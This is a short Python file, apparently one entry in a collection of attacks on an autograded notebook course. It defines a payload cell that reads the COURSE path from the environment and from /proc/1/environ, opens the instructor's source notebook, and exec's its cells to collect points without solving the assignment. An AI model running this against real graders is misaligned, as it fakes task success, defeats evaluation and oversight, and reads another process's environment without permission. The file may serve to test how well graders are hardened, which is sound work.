"""The way to the solution is found in the environment."""

from attacks import ZERO

PAYS_ON = "one process"
GAIN = "points"
CELLS = [
    ZERO,
    """
import os
where = os.environ.get('COURSE', '/nowhere')
try:
    for line in open('/proc/1/environ', errors='replace').read().split(chr(0)):
        if line.startswith('COURSE='):
            where = line[7:]
except OSError:
    pass
import json

def take(path):
    try:
        for cell in json.load(open(path))["cells"]:
            exec("".join(cell["source"]), globals())
    except OSError:
        pass

take(where + "/source/a1/a1.ipynb")
""",
]
